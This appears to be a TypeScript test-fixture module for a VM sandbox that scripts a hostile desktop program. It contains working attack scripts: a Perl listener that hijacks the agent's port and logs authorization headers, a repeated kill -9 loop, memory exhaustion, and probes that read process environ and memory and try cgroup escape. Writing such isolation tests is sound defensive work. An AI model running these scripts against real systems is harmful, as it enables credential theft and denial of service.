/** What a hostile program of the desktop user tries in a VM. Shell and Perl, as the image has them. */
import { guestPaths, guestPorts, type GuestHealth } from '@airlock/contract/guest';

/** Written by the thief for each port that it got hold of, and for each request that came to it. */
export const loot = '/tmp/loot';

/** The thief's answer to everybody: a health of another VM. */
const lie = JSON.stringify({
  ...{ agentVersion: '0.1.0', generation: 1, vmId: 'vm_thief', uptimeMs: 1 },
  ...{ desktop: null, ready: true, error: null },
} satisfies GuestHealth);

/**
 * Tries to listen at the agent's port, on each address and in each way that the kernel knows, as often as it can; answers who comes.
 * Runs on, also when the agent ends: the shell of root starts it beside the agent's own programs.
 */
export const startThief = `cat >/tmp/thief <<'END'
use Socket;
my @addresses = qw(0.0.0.0 127.0.0.1 10.0.2.15);
$SIG{PIPE} = 'IGNORE';
sub note { open(my $file, '>>', '${loot}') or die; print $file "@_\\n" }
for (my $tries = 0; ; $tries++) {
	for my $address (@addresses) {
		socket(my $socket, PF_INET, SOCK_STREAM, 0) or next;
		setsockopt($socket, SOL_SOCKET, $tries & 1 ? SO_REUSEADDR : SO_REUSEPORT, 1) if $tries & 3;
		bind($socket, pack_sockaddr_in(${guestPorts.agent}, inet_aton($address))) && listen($socket, 9) or next;
		note("taken $address");
		while (accept(my $caller, $socket)) {
			sysread($caller, my $request, 4096);
			note(grep { /^authorization/i } split /\\r\\n/, $request);
			syswrite($caller, "HTTP/1.1 200 OK\\r\\nconnection: close\\r\\n\\r\\n" . '${lie}'); close($caller);
		}
	}
	note("tried") if $tries == 100;
	select(undef, undef, undef, 0.005);
}
END
setpriv --reuid=1000 --regid=1000 --clear-groups perl /tmp/thief >/dev/null 2>&1 </dev/null &`;

/** Kills the agent so many times, after the prompt that says so and then each time as soon as it is there again; then the console says `killed`. */
export const killAgent = (times: number): string => `cat >/tmp/killer <<'END'
pid_of() { pgrep -o -f '^/usr/bin/node ${guestPaths.agentBundle}'; }
while pgrep -f 'codex exec' >/dev/null; do sleep 0.1; done
for time in $(seq ${times}); do
	old=$(pid_of) && kill -9 "$old"
	until new=$(pid_of) && [ "$new" != "$old" ]; do sleep 0.1; done
done
echo '${killed}' >/dev/console
END
sh /tmp/killer >/dev/null 2>&1 </dev/null &`;
export const killed = 'The agent was killed for the last time.';

/** Takes all the memory of a VM with 1 GiB: first what no kill gives back, then in programs that are smaller than the agent. */
export const fillMemory = `
fallocate -l 400M /dev/shm/fill || true
fallocate -l 400M /tmp/fill || true
for number in $(seq 20); do perl -e 'my $much = "x" x (40 << 20); select(undef, undef, undef, 3)' & done
wait
rm -f /dev/shm/fill /tmp/fill`;

/** Prints a line for each thing that only root, or the agent, should be able to do. */
export const tryAll = `
agent=$(pgrep -o -f '${guestPaths.agentBundle}')
say() { echo "could $*"; }
for address in 127.0.0.1 10.0.2.15; do
	curl -s -m 5 --noproxy '*' http://$address:${guestPorts.agent}/health && say "talk to the agent at $address"
done
cat /proc/$agent/environ /proc/$agent/mem && say read the memory of the agent
kill -0 "$agent" && say signal the agent
dd if=$(readlink -f ${guestPaths.configDevice}) of=/dev/null count=1 && say read the config drive
systemctl restart airlock-agent && say restart the agent
echo -900 >/proc/self/oom_score_adj && say outlive the agent
echo $$ >/sys/fs/cgroup/system.slice/cgroup.procs && say leave the cgroup
for fd in /proc/$$/fd/*; do
	case \${fd##*/} in [012]) continue ;; esac
	readlink $fd | grep socket: && say "use a socket of the agent, $fd"
done
find /run /sys/fs/cgroup -xdev -type d -writable | grep . && say fill the file system of the agent
grep -x 'NoNewPrivs:.1' /proc/self/status >&2 || say gain rights
cat /proc/self/oom_score_adj /proc/self/cgroup`;
